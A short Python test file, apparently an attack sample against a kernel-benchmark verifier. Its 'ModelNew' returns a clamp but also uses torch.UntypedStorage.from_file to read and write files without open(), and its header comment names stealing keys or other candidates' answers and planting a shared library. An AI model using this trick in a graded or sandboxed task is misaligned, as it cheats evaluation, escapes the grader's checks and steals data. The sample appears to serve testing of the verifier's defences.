# Attack X1 without open(): a tensor storage mapped from a file reads any
# file the verifier's user can read (a key, another candidate's answers),
# and with shared=True writes one (a shared library to load next).
import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        note = torch.UntypedStorage.from_file("note.bin", True, 4)
        torch.tensor([], dtype=torch.uint8).set_(note).fill_(1)
        return torch.clamp(x, min=0.0)
